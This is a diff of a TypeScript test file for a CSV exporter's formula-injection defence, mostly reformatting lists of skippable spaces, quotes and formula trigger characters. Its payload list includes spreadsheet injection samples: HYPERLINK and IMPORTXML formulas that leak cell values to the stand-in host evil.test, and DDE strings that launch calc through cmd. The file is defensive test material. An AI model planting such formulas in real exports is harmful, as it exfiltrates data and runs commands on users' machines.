@@ -9,11 +9,54 @@ import { CSV_EOL, csvRecord, formulaSafe, isFormulaLike } from './csv';
 
 // The rule as the test states it, independently of csv.ts: the characters a spreadsheet may skip before a
 // formula (every Unicode space, invisible joiners, quotes of every kind) and those that start one.
-const SPACES = ['\t', '\n', '\v', '\f', '\r', ' ', '\u0085', '\u00A0', '\u1680', '\u2000', '\u2001', '\u2002', '\u2003', '\u2004',
-  '\u2005', '\u2006', '\u2007', '\u2008', '\u2009', '\u200A', '\u2028', '\u2029', '\u202F', '\u205F', '\u3000', '\uFEFF'];
+const SPACES = [
+  '\t',
+  '\n',
+  '\v',
+  '\f',
+  '\r',
+  ' ',
+  '\u0085',
+  '\u00A0',
+  '\u1680',
+  '\u2000',
+  '\u2001',
+  '\u2002',
+  '\u2003',
+  '\u2004',
+  '\u2005',
+  '\u2006',
+  '\u2007',
+  '\u2008',
+  '\u2009',
+  '\u200A',
+  '\u2028',
+  '\u2029',
+  '\u202F',
+  '\u205F',
+  '\u3000',
+  '\uFEFF',
+];
 const INVISIBLES = ['\u00AD', '\u180E', '\u200B', '\u200C', '\u200D', '\u2060'];
-const QUOTES = ['"', "'", '`', '\u2018', '\u2019', '\u201A', '\u201B', '\u201C', '\u201D', '\u201E', '\u201F', '\u00AB', '\u00BB',
-  '\u2039', '\u203A', '\uFF02', '\uFF07'];
+const QUOTES = [
+  '"',
+  "'",
+  '`',
+  '\u2018',
+  '\u2019',
+  '\u201A',
+  '\u201B',
+  '\u201C',
+  '\u201D',
+  '\u201E',
+  '\u201F',
+  '\u00AB',
+  '\u00BB',
+  '\u2039',
+  '\u203A',
+  '\uFF02',
+  '\uFF07',
+];
 const TRIGGERS = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\uFE62', '\uFE63', '\uFE66', '\u2212'];
 const SKIPPABLE = new Set([...SPACES, ...INVISIBLES, ...QUOTES]);
 
@@ -25,12 +68,32 @@ function dangerous(text: string): boolean {
   return i < text.length && TRIGGERS.includes(text[i]!);
 }
 
-const LEADS = ['', ' ', '  ', '\u00A0', '\u3000', '\u2003', '\uFEFF', '\u200B', '\n', '\r\n', '\t', '"', '""', "'", ' "', '\u201C', '\u201E',
-  '\uFF02', '\u00A0"', '\n "'];
+const LEADS = [
+  '',
+  ' ',
+  '  ',
+  '\u00A0',
+  '\u3000',
+  '\u2003',
+  '\uFEFF',
+  '\u200B',
+  '\n',
+  '\r\n',
+  '\t',
+  '"',
+  '""',
+  "'",
+  ' "',
+  '\u201C',
+  '\u201E',
+  '\uFF02',
+  '\u00A0"',
+  '\n "',
+];
 const PAYLOADS = [
   'HYPERLINK("http://evil.test/?leak="&A1,"Click")',
-  'cmd|\' /C calc\'!A0',
-  'SUM(1+1)*cmd|\' /C calc\'!A0',
+  "cmd|' /C calc'!A0",
+  "SUM(1+1)*cmd|' /C calc'!A0",
   '1+1',
   '2+3',
   'IMPORTXML(CONCAT("http://evil.test/?v=",B2),"//a")',
@@ -54,8 +117,30 @@ const evaluates = (cell: string) => !cell.startsWith("'") && dangerous(cell);
  * Text a spreadsheet shows as it is: kept untouched. '|' and '%' start no formula (decision in csv.ts), and a
  * trigger after a letter, digit or bracket is no formula start either.
  */
-const BENIGN = ['e-mail', '3-pack', 'Drill 18V - cordless', 'a=b', 'x+y', 'user@example.com', '"quoted" name', "it's", '', ' ', 'Ünïcödé 🔧',
-  'line one\nline two', '100% cotton', '%PDF-1.7', '|pipe|', 'A|B', 'C++', '(555) 123-4567', '«Qualität»', '„Zitat“ - gut', '5 - 3', '\n\nlater'];
+const BENIGN = [
+  'e-mail',
+  '3-pack',
+  'Drill 18V - cordless',
+  'a=b',
+  'x+y',
+  'user@example.com',
+  '"quoted" name',
+  "it's",
+  '',
+  ' ',
+  'Ünïcödé 🔧',
+  'line one\nline two',
+  '100% cotton',
+  '%PDF-1.7',
+  '|pipe|',
+  'A|B',
+  'C++',
+  '(555) 123-4567',
+  '«Qualität»',
+  '„Zitat“ - gut',
+  '5 - 3',
+  '\n\nlater',
+];
 /** Writes the cells as a CSV (each on a row with a marker column) and reads it back with papaparse. */
 function roundTrip(cells: readonly string[]): string[] {
   // Behind a header, as in every export (papaparse would drop a BOM that opens the text).
